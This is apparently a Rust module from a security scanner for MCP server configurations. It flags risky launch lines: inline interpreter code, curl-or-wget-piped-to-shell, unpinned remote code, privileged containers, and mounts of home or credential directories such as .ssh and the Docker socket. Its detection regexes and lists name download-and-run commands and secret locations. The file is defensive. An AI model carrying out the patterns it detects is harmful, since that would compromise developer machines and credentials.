//! Stage 6, posture: how the client launches or reaches the server. Cheap checks
//! content scanners miss: an unknown executable, plaintext HTTP, a `0.0.0.0`
//! bind, a privileged or host-networked container, the home directory mounted
//! into it, and shell wrappers that hide the real command.
//! (Known-vulnerable versions, MTC-NET-001, belong to the supply-chain stage.)

use super::ScanOptions;
use crate::finding::{Confidence, Finding, Severity};
use crate::surface::{ServerSurface, Transport};
use std::net::IpAddr;

const SHELLS: &[&str] = &[
    "bash",
    "sh",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
];
const SHELL_FLAGS: &[&str] = &[
    "-c",
    "/c",
    "/k",
    "-lc",
    "-ic",
    "-command",
    "-encodedcommand",
    "-enc",
    "-e",
];
/// Shell builtins that start a wrapped command line (`cd /srv && npx …`): not an executable.
const SHELL_BUILTINS: &[&str] = &[
    "cd", "export", "set", "source", ".", "env", "exec", "echo", "true",
];
const CONTAINER_RUNTIMES: &[&str] = &["docker", "podman", "nerdctl"];

/// What a launch line does that a reviewer must know before it runs: the one
/// classifier behind the posture findings (MTC-NET-002, MTC-NET-011) and the
/// live sandbox's refusals, so what the scan reports is what the sandbox
/// refuses to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LaunchRisk {
    /// An interpreter given code on its command line (`python3 -c`, `node -e`,
    /// `deno eval`, `powershell -Command iex …`): the config is the program.
    InlineCode {
        /// `python3 -c`, as launched.
        how: String,
        /// The code (not redacted: callers redact before printing).
        code: String,
    },
    /// A download piped into a shell or interpreter (`curl … | sh`), in any wrapper.
    DownloadAndRun { snippet: String },
    /// Code fetched from a URL or a git remote (`uvx --from git+https://…`,
    /// `npx github:user/repo`); `pinned` when it names an immutable commit or hash.
    RemoteCode { spec: String, pinned: bool },
}

/// Interpreters and the flags that hand them code to run.
fn inline_flag(exe: &str, args: &[String], i: usize) -> Option<(String, String)> {
    let a = args.get(i)?.as_str();
    let next = || args.get(i + 1).cloned().unwrap_or_default();
    let base = exe.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match base {
        "python" | "py" | "pypy" => {
            // `-c CODE`, `-cCODE`, and clusters ending in c (`-Ic`, `-uBc`).
            let flags = a.strip_prefix('-').filter(|f| !f.starts_with('-'))?;
            let at = flags.find('c')?;
            if flags[..at].contains(['m', 'W', 'X']) {
                return None;
            }
            let code = &flags[at + 1..];
            Some((
                format!("{exe} {}", &a[..at + 2]),
                if code.is_empty() {
                    next()
                } else {
                    code.to_string()
                },
            ))
        }
        "node" | "nodejs" | "bun" => {
            for f in ["--eval", "--print"] {
                if let Some(code) = a.strip_prefix(&format!("{f}=")) {
                    return Some((format!("{exe} {f}"), code.to_string()));
                }
            }
            matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe" | "-ep")
                .then(|| (format!("{exe} {a}"), next()))
        }
        "deno" => (a == "eval").then(|| (format!("{exe} eval"), args[i + 1..].join(" "))),
        "perl" | "ruby" | "lua" | "luajit" | "rscript" | "osascript" => {
            matches!(a, "-e" | "-E").then(|| (format!("{exe} {a}"), next()))
        }
        "php" => (a == "-r").then(|| (format!("{exe} -r"), next())),
        "powershell" | "pwsh" => {
            let l = a.to_ascii_lowercase();
            let encoded = [
                "-encodedcommand",
                "-enc",
                "-ec",
                "-e",
                "/enc",
                "/encodedcommand",
            ];
            if encoded.contains(&l.as_str()) {
                return Some((format!("{exe} {a}"), next()));
            }
            let command = ["-command", "-c", "/c", "/command"].contains(&l.as_str());
            let script = args[i + 1..].join(" ");
            let evaluates = regex_iex().is_match(&script);
            (command && evaluates).then(|| (format!("{exe} {a}"), script))
        }
        _ => None,
    }
}

fn regex_iex() -> &'static regex::Regex {
    static R: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    R.get_or_init(|| {
        regex::Regex::new(r"(?i)(?-u:\b)(iex|invoke-expression)(?-u:\b)|\[scriptblock\]::create")
            .unwrap_or_else(|e| panic!("built-in regex: {e}"))
    })
}

/// `curl … | sh`, `bash <(curl …)`, `eval "$(wget -qO- …)"`, `iex (iwr …)`.
fn regex_download_run() -> &'static regex::Regex {
    static R: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    R.get_or_init(|| {
        regex::Regex::new(
            r#"(?ix)
            (?-u:\b)(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c|http)(?-u:\b)[^|;&\n]*
              \|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:(?:ba|da|z|k|fi|c)?sh|python[0-9.]*|node|bun|deno|perl|ruby|php|iex|invoke-expression|pwsh|powershell|source)(?-u:\b)
            | (?:(?:ba|da|z|k)?sh|source|\.)\s+(?:-s\s+)?<\(\s*(?:curl|wget)(?-u:\b)
            | (?:eval|(?:ba|da|z|k)?sh\s+-c|source|exec)\s+["']?\$\(\s*(?:curl|wget)(?-u:\b)
            | (?-u:\b)(?:iex|invoke-expression)\s*[\(\s]\s*\(?\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s+(?:system\.)?net\.webclient)
            | (?-u:\b)(?:curl|wget)(?-u:\b)[^;&|\n]*(?:&&|;)\s*(?:chmod\s+[+0-7a-z]+\s+\S+\s*(?:&&|;)\s*)?(?:(?:ba|da|z)?sh\s+\S|\./\S)
            "#,
        )
        .unwrap_or_else(|e| panic!("built-in regex: {e}"))
    })
}

/// Options of the common wrappers (docker, npx, uvx, env) that take a value.
const VALUE_FLAGS: &[&str] = &[
    "-v",
    "--volume",
    "--mount",
    "--name",
    "-e",
    "--env",
    "--env-file",
    "-w",
    "--workdir",
    "-p",
    "--publish",
    "--network",
    "--net",
    "-u",
    "--user",
    "-l",
    "--label",
    "-h",
    "--hostname",
    "--entrypoint",
    "--platform",
    "--cache",
    "--registry",
    "--prefix",
    "--python",
    "--from",
    "--with",
    "--spec",
    "--index-url",
    "-c",
    "--call",
    "-C",
    "--directory",
    "--cwd",
    "-m",
];

/// Words of a shell script, quotes stripped (enough to find a nested launch).
fn shell_words(script: &str) -> Vec<String> {
    script
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '`'))
        .map(|w| w.trim_matches(['"', '\'']).to_string())
        .filter(|w| !w.is_empty())
        .collect()
}

/// Every risk of a launch line, in argument order (deduplicated).
pub fn launch_risks(command: &str, args: &[String]) -> Vec<LaunchRisk> {
    let mut out = Vec::new();
    risks_of(command, args, 0, &mut out);
    let mut seen = std::collections::BTreeSet::new();
    out.retain(|r| seen.insert(format!("{r:?}")));
    out
}

fn risks_of(command: &str, args: &[String], depth: usize, out: &mut Vec<LaunchRisk>) {
    if depth > 4 {
        return;
    }
    let whole = std::iter::once(command.to_string())
        .chain(args.iter().cloned())
        .collect::<Vec<String>>();
    // Download-and-run in any argument (a shell script, `npm exec -c`, a docker command).
    for a in &whole {
        if let Some(m) = regex_download_run().find(a) {
            out.push(LaunchRisk::DownloadAndRun {
                snippet: crate::text::truncate_chars(a[m.start()..].trim(), 200),
            });
        }
    }
    // Any interpreter in the line (the command, or after a wrapper: `env`,
    // `npx node`, `docker run img python`) handed inline code.
    for (i, w) in whole.iter().enumerate() {
        // `npx node@20 -e …`: the package's version does not change what it runs.
        let exe = executable(w);
        let exe = match exe.split_once('@') {
            Some((name, _)) if !name.is_empty() => name.to_string(),
            _ => exe,
        };
        // Past the command, an interpreter is a bare word in command position,
        // not an option's value (`docker run -v /opt/node -p 80 img`).
        if exe.is_empty()
            || (i > 0
                && (w.contains(['/', '\\', '='])
                    || VALUE_FLAGS.contains(&whole[i - 1].to_ascii_lowercase().as_str())))
        {
            continue;
        }
        for j in i + 1..whole.len().min(i + 8) {
            if let Some((how, code)) = inline_flag(&exe, &whole, j) {
                out.push(LaunchRisk::InlineCode { how, code });
                break;
            }
            // Options of the interpreter come first; a plain word ends them.
            if !whole[j].starts_with('-') && exe != "deno" {
                break;
            }
        }
        // Shell scripts and `npm exec -c`: look inside the script.
        let shell = SHELLS.contains(&exe.as_str());
        let npm_call = matches!(exe.as_str(), "npx" | "npm" | "pnpm");
        if (shell || npm_call) && i + 1 < whole.len() {
            let flags: &[&str] = if shell {
                SHELL_FLAGS
            } else {
                &["-c", "--call"]
            };
            if let Some(k) = whole[i + 1..]
                .iter()
                .position(|a| flags.contains(&a.to_ascii_lowercase().as_str()))
            {
                let script = whole[i + 2 + k..].join(" ");
                let words = shell_words(&script);
                if let Some((first, rest)) = words.split_first() {
                    risks_of(first, rest, depth + 1, out);
                }
            }
        }
    }
    remote_code(&whole, out);
}

/// A commit (40 hex digits) or a content hash pins remote code; a tag or branch does not.
fn pinned_remote(spec: &str) -> bool {
    let hexrun = spec
        .split(|c: char| !c.is_ascii_hexdigit())
        .any(|w| w.len() == 40 || w.len() == 64);
    let hashed = ["#sha256=", "#sha512=", "#sha384=", "integrity="]
        .iter()
        .any(|h| spec.to_ascii_lowercase().contains(h));
    hexrun || hashed
}

/// Whether a package-position argument fetches code from a URL or git remote.
fn remote_spec(a: &str, runner: &str) -> bool {
    let l = a.to_ascii_lowercase();
    let value = l.split_once(" @ ").map(|(_, v)| v).unwrap_or(&l);
    let value = match value.split_once('@') {
        // `name@git+https://…` (npm), `name@https://…`.
        Some((name, v))
            if !name.is_empty()
                && !name.contains('/')
                && (v.starts_with("git") || v.starts_with("http")) =>
        {
            v
        }
        _ => value,
    };
    if [
        "git+",
        "git://",
        "github:",
        "gitlab:",
        "bitbucket:",
        "gist:",
    ]
    .iter()
    .any(|p| value.starts_with(p))
        || value.starts_with("git@")
    {
        return true;
    }
    if value.starts_with("http://") || value.starts_with("https://") {
        return true;
    }
    // `npx user/repo`: an unscoped name with a slash is GitHub shorthand.
    matches!(runner, "npx" | "bunx" | "pnpx" | "npm" | "pnpm" | "yarn")
        && !l.starts_with(['@', '.', '/', '~', '$'])
        && l.matches('/').count() == 1
        && !l.contains(':')
        && ![".js", ".mjs", ".cjs", ".ts", ".json"]
            .iter()
            .any(|e| l.split('#').next().unwrap_or("").ends_with(e))
}

/// Package positions of the runners that fetch code, and what they fetch.
fn remote_code(whole: &[String], out: &mut Vec<LaunchRisk>) {
    let mut push = |spec: &str| {
        out.push(LaunchRisk::RemoteCode {
            spec: spec.to_string(),
            pinned: pinned_remote(spec),
        });
    };
    for (i, w) in whole.iter().enumerate() {
        let exe = executable(w);
        let rest = &whole[i + 1..];
        match exe.as_str() {
            "npx" | "bunx" | "pnpx" => {
                package_position(
                    rest,
                    &["-p", "--package"],
                    &["--registry", "--cache", "-c", "--call"],
                )
                .filter(|a| remote_spec(a, &exe))
                .inspect(|a| push(a));
            }
            "npm" | "pnpm" | "yarn" => {
                if let Some(k) = rest.iter().position(|a| {
                    matches!(a.as_str(), "exec" | "dlx" | "x" | "install" | "i" | "add")
                }) {
                    package_position(&rest[k + 1..], &["-p", "--package"], &["-c", "--call"])
                        .filter(|a| remote_spec(a, &exe))
                        .inspect(|a| push(a));
                }
            }
            "uvx" | "uv" | "pipx" | "pip" | "pip3" => {
                // `--from SPEC`, `--with SPEC`, `--spec SPEC`, and the positional package.
                let mut j = 0;
                while j < rest.len() {
                    let a = rest[j].as_str();
                    let (flag, val) = match a.split_once('=') {
                        Some((f, v)) if f.starts_with("--") => (f, Some(v.to_string())),
                        _ => (a, rest.get(j + 1).cloned()),
                    };
                    if matches!(flag, "--from" | "--with" | "--spec" | "-e" | "--editable") {
                        if let Some(v) = val.as_deref().filter(|v| remote_spec(v, &exe)) {
                            push(v);
                        }
                        j += if a.contains('=') { 1 } else { 2 };
                        continue;
                    }
                    if !a.starts_with('-') && remote_spec(a, &exe) {
                        push(a);
                    }
                    j += 1;
                }
            }
            "deno" => {
                if let Some(k) = rest
                    .iter()
                    .position(|a| matches!(a.as_str(), "run" | "install" | "x"))
                    && let Some(a) = rest[k + 1..].iter().find(|a| !a.starts_with('-'))
                    && (a.starts_with("https://") || a.starts_with("http://"))
                {
                    push(a);
                }
            }
            _ => {}
        }
    }
}

/// The package an npm-style runner runs: `-p X`/`--package=X`, else the first positional.
fn package_position<'a>(
    args: &'a [String],
    pkg_flags: &[&str],
    value_flags: &[&str],
) -> Option<&'a str> {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if pkg_flags.contains(&a) {
            return args.get(i + 1).map(String::as_str);
        }
        if let Some(v) = a.strip_prefix("--package=") {
            return Some(v);
        }
        if value_flags.contains(&a) {
            i += 2;
            continue;
        }
        if a == "--" {
            return args.get(i + 1).map(String::as_str);
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        return Some(a);
    }
    None
}

/// Why the live sandbox refuses to run a launch line even though its
/// executable is allowlisted: it runs inline or downloaded code, unpinned
/// remote code, or a container that undoes isolation.
pub fn refusal(command: &str, args: &[String]) -> Option<String> {
    for r in launch_risks(command, args) {
        match r {
            LaunchRisk::InlineCode { how, .. } => {
                return Some(format!(
                    "`{}` runs code written into the config",
                    crate::text::visible(&how)
                ));
            }
            LaunchRisk::DownloadAndRun { .. } => {
                return Some("the command downloads code and runs it".into());
            }
            LaunchRisk::RemoteCode {
                spec,
                pinned: false,
            } => {
                return Some(format!(
                    "`{}` fetches unpinned code from a URL or git remote",
                    crate::text::visible(&crate::text::redact_url(&spec))
                ));
            }
            LaunchRisk::RemoteCode { pinned: true, .. } => {}
        }
    }
    if CONTAINER_RUNTIMES.contains(&executable(command).as_str()) && args.iter().any(|a| a == "run")
    {
        let mut found = Vec::new();
        container_escapes(args, &mut |_, what, _, _| found.push(what));
        if let Some(what) = found.into_iter().next() {
            return Some(format!("the server {what}"));
        }
    }
    None
}

/// `C:\tools\Node.EXE` → `node`; `/usr/bin/python3.12` → `python3.12`.
pub fn executable(command: &str) -> String {
    let base = command
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(command)
        .to_ascii_lowercase();
    for ext in [".exe", ".cmd", ".bat", ".ps1"] {
        if let Some(b) = base.strip_suffix(ext) {
            return b.to_string();
        }
    }
    base
}

/// Allowlisted: exact, or a versioned interpreter (`python3.12` for `python3`).
fn allowed(exe: &str, opts: &ScanOptions) -> bool {
    opts.exec_allowlist.iter().any(|a| {
        let a = a.to_ascii_lowercase();
        exe == a
            || exe.strip_prefix(a.as_str()).is_some_and(|rest| {
                rest.starts_with('.') && rest[1..].chars().all(|c| c.is_ascii_digit() || c == '.')
            })
    })
}

fn loopback(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Domain(d) => {
            let d = d.to_ascii_lowercase();
            d == "localhost" || d.ends_with(".localhost")
        }
        url::Host::Ipv4(ip) => ip.is_loopback(),
        url::Host::Ipv6(ip) => ip.is_loopback(),
    }
}

fn unspecified(host: &url::Host<&str>) -> bool {
    match host {
        url::Host::Ipv4(ip) => ip.is_unspecified(),
        url::Host::Ipv6(ip) => ip.is_unspecified(),
        url::Host::Domain(d) => d.parse::<IpAddr>().is_ok_and(|ip| ip.is_unspecified()),
    }
}

pub fn check(s: &ServerSurface, opts: &ScanOptions, out: &mut Vec<Finding>) {
    let loc = s.source.location.clone();
    let mk = |id: &str, msg: String, field: String, ev: String| {
        Finding::new(id, msg, loc.clone())
            .server(&s.id)
            .field(field)
            .evidence(ev)
    };
    environment_requests(s, out);
    match &s.transport {
        Transport::Stdio { command, args, .. } => {
            let exe = executable(command);
            let runs_code = launch(s, command, args, out);
            if SHELLS.contains(&exe.as_str())
                && args
                    .iter()
                    .any(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
            {
                shell_wrapper(s, &exe, command, args, opts, runs_code, out);
            } else if !runs_code && !exe.is_empty() && !allowed(&exe, opts) {
                out.push(mk(
                    "MTC-NET-002",
                    format!("server `{}` launches `{exe}`, an executable outside the allowlist: the config runs arbitrary code on every developer machine that loads it", s.name),
                    "transport.command".into(),
                    format!("command: {}", crate::text::redact_command(command)),
                ));
            }
            if CONTAINER_RUNTIMES.contains(&exe.as_str()) && args.iter().any(|a| a == "run") {
                container(s, args, out);
            }
            let shown = crate::text::redact_args(args);
            for (i, a) in args.iter().enumerate() {
                if a.contains("0.0.0.0") {
                    out.push(mk("MTC-NET-004", format!("server `{}` is started with a `0.0.0.0` bind: it listens on every network interface", s.name), format!("transport.args[{i}]"), shown[i].clone()));
                }
                for word in
                    a.split(|c: char| c.is_whitespace() || c == '=' || c == '"' || c == '\'')
                {
                    plaintext(s, word, &format!("transport.args[{i}]"), out);
                }
            }
            let mut env: Vec<(&String, &String)> = s.env.iter().collect();
            env.sort();
            for (k, v) in env {
                if v.contains("0.0.0.0") {
                    // The value is never printed: only the variable name.
                    out.push(mk("MTC-NET-004", format!("server `{}` gets `{k}` containing a `0.0.0.0` bind: it listens on every network interface", s.name), format!("env.{k}"), format!("env {k} contains 0.0.0.0")));
                }
            }
        }
        Transport::Remote { url, protocol, .. } => {
            let Ok(u) = url::Url::parse(url) else { return };
            let Some(host) = u.host() else { return };
            let field = "transport.url".to_string();
            let shown = crate::text::redact_url(url);
            if unspecified(&host) {
                out.push(mk("MTC-NET-004", format!("server `{}` is reached at `0.0.0.0`: it listens on every network interface", s.name), field.clone(), shown));
            } else if loopback(&host) {
                if matches!(u.scheme(), "http" | "https") {
                    out.push(mk(
                        "MTC-NET-006",
                        format!("server `{}` is a local {} server: without Origin/Host checks a web page can reach it through DNS rebinding", s.name, crate::surface::Transport::Remote { url: String::new(), protocol: *protocol, header_names: vec![] }.kind_str()),
                        field,
                        shown,
                    ));
                }
            } else {
                plaintext(s, url, &field, out);
                out.push(mk("MTC-NET-005", format!("server `{}` is remote (`{}`): its catalog can change without any local update", s.name, host), field, shown));
            }
        }
        Transport::Unknown => {}
    }
}

/// MTC-NET-002 (confirmed) for inline or downloaded code, MTC-NET-011 for code
/// fetched from a URL or git remote. Returns whether the line runs code the
/// config itself carries or downloads (the allowlist finding then adds nothing).
fn launch(s: &ServerSurface, command: &str, args: &[String], out: &mut Vec<Finding>) -> bool {
    let mut runs_code = false;
    let mk = |id: &str, msg: String, ev: String| {
        Finding::new(id, msg, s.source.location.clone())
            .server(&s.id)
            .field("transport.args".to_string())
            .evidence(ev)
    };
    // One stdio-RCE finding per launch line: inline code first, else the download.
    let mut risks = launch_risks(command, args);
    if let Some(first) = risks.iter().position(|r| {
        matches!(
            r,
            LaunchRisk::InlineCode { .. } | LaunchRisk::DownloadAndRun { .. }
        )
    }) {
        let keep = risks
            .iter()
            .position(|r| matches!(r, LaunchRisk::InlineCode { .. }))
            .unwrap_or(first);
        let mut i = 0;
        risks.retain(|r| {
            let code = matches!(
                r,
                LaunchRisk::InlineCode { .. } | LaunchRisk::DownloadAndRun { .. }
            );
            i += 1;
            !code || i - 1 == keep
        });
    }
    for r in risks {
        match r {
            LaunchRisk::InlineCode { how, code } => {
                runs_code = true;
                out.push(
                    mk(
                        "MTC-NET-002",
                        format!("server `{}` runs inline code (`{how}`): the config itself is the program, and it runs on every machine that loads it", s.name),
                        format!("{how} {}", crate::text::redact_command(&code)),
                    )
                    .confidence(Confidence::Confirmed),
                );
            }
            LaunchRisk::DownloadAndRun { snippet } => {
                runs_code = true;
                out.push(
                    mk(
                        "MTC-NET-002",
                        format!("server `{}` downloads code and runs it: whatever the URL serves at launch time runs on the machine", s.name),
                        crate::text::redact_command(&snippet),
                    )
                    .confidence(Confidence::Confirmed),
                );
            }
            LaunchRisk::RemoteCode { spec, pinned } => {
                let (conf, how) = if pinned {
                    (
                        Confidence::Strong,
                        "pinned to a commit or hash, outside any package registry",
                    )
                } else {
                    (
                        Confidence::Confirmed,
                        "unpinned: the code can change at any time without a config change",
                    )
                };
                out.push(
                    mk(
                        "MTC-NET-011",
                        format!(
                            "server `{}` runs code fetched from a URL or git remote ({how})",
                            s.name
                        ),
                        crate::text::redact_url(&spec),
                    )
                    .confidence(conf),
                );
            }
        }
    }
    runs_code
}

/// Variables a CI job holds that no MCP server should be handed.
pub fn job_secret(name: &str) -> bool {
    let n = name.to_ascii_uppercase();
    n == "GITHUB_TOKEN"
        || ["ACTIONS_", "RUNNER_", "INPUT_"]
            .iter()
            .any(|p| n.starts_with(p))
}

/// `${VAR}` / `${env:VAR}` names a value refers to.
fn referenced_vars(v: &str) -> Vec<String> {
    crate::acquire::live::referenced_vars(v)
}

/// MTC-NET-012: the config asks for values from the environment of whoever
/// launches it (a `${VAR}` reference, or a forwarded name). High when it names a
/// CI job secret (`GITHUB_TOKEN`, `ACTIONS_*`, `RUNNER_*`, `INPUT_*`); info
/// otherwise, since developer machines resolve such references by design. The
/// scanner never resolves them unless `--pass-env NAME` says so.
fn environment_requests(s: &ServerSurface, out: &mut Vec<Finding>) {
    for (what, map) in [("env", &s.env), ("headers", &s.headers)] {
        for (key, value) in map {
            let mut asked: Vec<String> = referenced_vars(value);
            if value.is_empty() && what == "env" {
                asked.push(key.clone());
            }
            if asked.is_empty() {
                continue;
            }
            asked.sort();
            asked.dedup();
            let secrets: Vec<&String> = asked.iter().filter(|n| job_secret(n)).collect();
            let field = format!("{what}.{key}");
            let f = if secrets.is_empty() {
                Finding::new(
                    "MTC-NET-012",
                    format!("server `{}` reads `{}` from the environment of whoever launches it (`{field}`)", s.name, asked.join("`, `")),
                    s.source.location.clone(),
                )
                .severity(Severity::Info)
            } else {
                let names: Vec<&str> = secrets.iter().map(|n| n.as_str()).collect();
                Finding::new(
                    "MTC-NET-012",
                    format!(
                        "server `{}` asks for the CI job secret `{}` (`{field}`): launched in a workflow it would be handed the job's credentials",
                        s.name,
                        names.join("`, `")
                    ),
                    s.source.location.clone(),
                )
            };
            out.push(
                f.server(&s.id)
                    .field(field.clone())
                    .evidence(format!("{field} asks for {}", asked.join(", "))),
            );
        }
    }
}

/// MTC-NET-003: an `http://` URL to a host that is not loopback.
fn plaintext(s: &ServerSurface, text: &str, field: &str, out: &mut Vec<Finding>) {
    if !text
        .get(..7)
        .is_some_and(|p| p.eq_ignore_ascii_case("http://"))
    {
        return;
    }
    let Ok(u) = url::Url::parse(text) else { return };
    let Some(host) = u.host() else { return };
    if loopback(&host) || unspecified(&host) {
        return;
    }
    out.push(
        Finding::new("MTC-NET-003", format!("server `{}` talks plaintext HTTP to `{host}`: traffic and credentials can be read or changed on the way", s.name), s.source.location.clone())
            .server(&s.id)
            .field(field.to_string())
            .evidence(crate::text::redact_url(text)),
    );
}

/// MTC-NET-010: `bash -c "…"`, `cmd /c …`: the real command is hidden in a string.
fn shell_wrapper(
    s: &ServerSurface,
    exe: &str,
    command: &str,
    args: &[String],
    opts: &ScanOptions,
    runs_code: bool,
    out: &mut Vec<Finding>,
) {
    let flag = args
        .iter()
        .position(|a| SHELL_FLAGS.contains(&a.to_ascii_lowercase().as_str()))
        .unwrap_or(0);
    let inner = args[flag + 1..].join(" ");
    let first = inner
        .split_whitespace()
        .next()
        .map(executable)
        .unwrap_or_default();
    let plain = !inner
        .chars()
        .any(|c| matches!(c, ';' | '&' | '|' | '$' | '`' | '>' | '<' | '(' | '\n'));
    let benign = plain && allowed(&first, opts);
    let mut f = Finding::new(
        "MTC-NET-010",
        format!("server `{}` is launched through a shell wrapper (`{exe} {}`): the command that really runs is a string the reviewer must read", s.name, args[flag]),
        s.source.location.clone(),
    )
    .server(&s.id)
    .field("transport.args".to_string())
    .evidence(format!(
        "{} {}",
        crate::text::redact_command(command),
        crate::text::redact_args(args).join(" ")
    ));
    if benign {
        // `cmd /c npx …` is how Windows runs npx: a plain allowlisted command.
        f = f.severity(Severity::Low);
    }
    out.push(f);
    if !runs_code
        && !first.is_empty()
        && !allowed(&first, opts)
        && !SHELLS.contains(&first.as_str())
        && !SHELL_BUILTINS.contains(&first.as_str())
    {
        out.push(
            Finding::new("MTC-NET-002", format!("server `{}` runs `{first}` inside a shell wrapper, an executable outside the allowlist", s.name), s.source.location.clone())
                .server(&s.id)
                .field("transport.args".to_string())
                .evidence(crate::text::redact_command(&inner)),
        );
    }
}

/// MTC-NET-007/008/009: container isolation undone by the run flags.
fn container(s: &ServerSurface, args: &[String], out: &mut Vec<Finding>) {
    container_escapes(args, &mut |id, what, i, ev| {
        out.push(
            Finding::new(
                id,
                format!("server `{}` {what}", s.name),
                s.source.location.clone(),
            )
            .server(&s.id)
            .field(format!("transport.args[{i}]"))
            .evidence(ev),
        );
    });
}

/// Each run flag that undoes container isolation: `(rule, what it does, arg index, evidence)`.
fn container_escapes(args: &[String], found: &mut dyn FnMut(&'static str, String, usize, String)) {
    let val = |i: usize, flag: &str| -> Option<String> {
        let a = &args[i];
        if let Some(v) = a.strip_prefix(&format!("{flag}=")) {
            Some(v.to_string())
        } else if a == flag {
            args.get(i + 1).cloned()
        } else {
            None
        }
    };
    for i in 0..args.len() {
        let a = args[i].as_str();
        if a == "--privileged" || a == "--privileged=true" {
            found(
                "MTC-NET-007",
                "runs in a privileged container: it has full access to the host".into(),
                i,
                a.into(),
            );
        }
        if let Some(cap) = val(i, "--cap-add")
            && (cap.eq_ignore_ascii_case("all")
                || cap.eq_ignore_ascii_case("sys_admin")
                || cap.eq_ignore_ascii_case("cap_sys_admin"))
        {
            found(
                "MTC-NET-007",
                format!("runs in a container with capability `{cap}`: close to full host access"),
                i,
                format!("--cap-add {cap}"),
            );
        }
        for flag in ["--network", "--net"] {
            if val(i, flag).is_some_and(|v| v == "host") {
                found("MTC-NET-008", "shares the host's network namespace: it can reach every local service and bind host ports".into(), i, format!("{flag} host"));
            }
        }
        for flag in ["--pid", "--ipc", "--uts", "--userns"] {
            if val(i, flag).is_some_and(|v| v == "host") {
                found(
                    "MTC-NET-008",
                    format!("shares a host namespace (`{flag}=host`)"),
                    i,
                    format!("{flag} host"),
                );
            }
        }
        let mount = val(i, "-v")
            .or_else(|| val(i, "--volume"))
            .map(|v| v.split(':').next().unwrap_or("").to_string())
            .or_else(|| {
                val(i, "--mount").map(|m| {
                    m.split(',')
                        .find_map(|kv| {
                            kv.strip_prefix("source=")
                                .or_else(|| kv.strip_prefix("src="))
                        })
                        .unwrap_or("")
                        .to_string()
                })
            });
        if let Some(src) = mount
            && let Some(why) = dangerous_mount(&src)
        {
            found(
                "MTC-NET-009",
                format!("mounts {why} (`{src}`) into its container"),
                i,
                args[i..(i + 2).min(args.len())].join(" "),
            );
        }
    }
}

/// Whether a bind-mount source exposes the host: `/`, the home directory, credentials, the Docker socket.
fn dangerous_mount(src: &str) -> Option<&'static str> {
    let s = src.trim_end_matches(['/', '\\']);
    let home = ["~", "$HOME", "${HOME}", "%USERPROFILE%", "/root"];
    if src == "/" || s.is_empty() && src.starts_with('/') {
        return Some("the host's root filesystem");
    }
    if home.contains(&s) || is_user_home(s) {
        return Some("the whole home directory");
    }
    if s.ends_with("docker.sock") {
        return Some("the Docker socket (root on the host)");
    }
    let secret_dirs = [
        ".ssh",
        ".aws",
        ".kube",
        ".gnupg",
        ".docker",
        ".config/gcloud",
        ".azure",
    ];
    if home
        .iter()
        .any(|h| secret_dirs.iter().any(|d| s == format!("{h}/{d}")))
    {
        return Some("a credentials directory");
    }
    None
}

/// `/home/alice`, `/Users/alice`, `C:\Users\alice` (the directory itself).
fn is_user_home(s: &str) -> bool {
    let parts: Vec<&str> = s.split(['/', '\\']).filter(|p| !p.is_empty()).collect();
    match parts.as_slice() {
        [root, _user] => *root == "home" || *root == "Users",
        [drive, users, _user] => drive.ends_with(':') && users.eq_ignore_ascii_case("users"),
        [root] => *root == "home" || *root == "Users",
        _ => false,
    }
}

/// Every id this stage emits (a unit test checks each is catalogued).
pub const RULE_IDS: &[&str] = &[
    "MTC-NET-002",
    "MTC-NET-003",
    "MTC-NET-004",
    "MTC-NET-005",
    "MTC-NET-006",
    "MTC-NET-007",
    "MTC-NET-008",
    "MTC-NET-009",
    "MTC-NET-010",
    "MTC-NET-011",
    "MTC-NET-012",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::surface::{Location, RemoteKind, Source};

    fn stdio(command: &str, args: &[&str]) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Stdio {
                command: command.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                env_names: vec![],
                cwd: None,
            },
        )
    }

    fn remote(url: &str) -> ServerSurface {
        let src = Source {
            location: Location::new("mcp.json", 2, 3),
            format: "config".into(),
            client: None,
        };
        ServerSurface::new(
            "mcp.json#s".into(),
            "s".into(),
            src,
            Transport::Remote {
                url: url.into(),
                protocol: RemoteKind::StreamableHttp,
                header_names: vec![],
            },
        )
    }

    fn ids(s: &ServerSurface) -> Vec<String> {
        let mut out = Vec::new();
        check(s, &ScanOptions::default(), &mut out);
        let mut v: Vec<String> = out
            .iter()
            .map(|f| format!("{}:{}", f.rule_id, f.severity))
            .collect();
        v.sort();
        v
    }

    #[test]
    fn ids_are_catalogued() {
        for id in RULE_IDS {
            assert!(crate::rules::get(id).is_some(), "{id}");
        }
    }

    #[test]
    fn allowlist() {
        assert!(ids(&stdio("npx", &["-y", "pkg"])).is_empty());
        assert!(ids(&stdio("/usr/local/bin/uvx", &["pkg"])).is_empty());
        assert!(ids(&stdio("C:\\Program Files\\nodejs\\node.exe", &["x.js"])).is_empty());
        assert!(ids(&stdio("python3.12", &["-m", "srv"])).is_empty());
        assert_eq!(ids(&stdio("uv", &["run", "srv"])), ["MTC-NET-002:critical"]);
        assert_eq!(
            ids(&stdio("/opt/bin/my-server", &[])),
            ["MTC-NET-002:critical"]
        );
        let opts = ScanOptions {
            exec_allowlist: vec!["uv".into()],
            ..ScanOptions::default()
        };
        let mut out = Vec::new();
        check(&stdio("uv", &["run", "srv"]), &opts, &mut out);
        assert!(out.is_empty());
    }

    #[test]
    fn shell_wrappers() {
        assert_eq!(
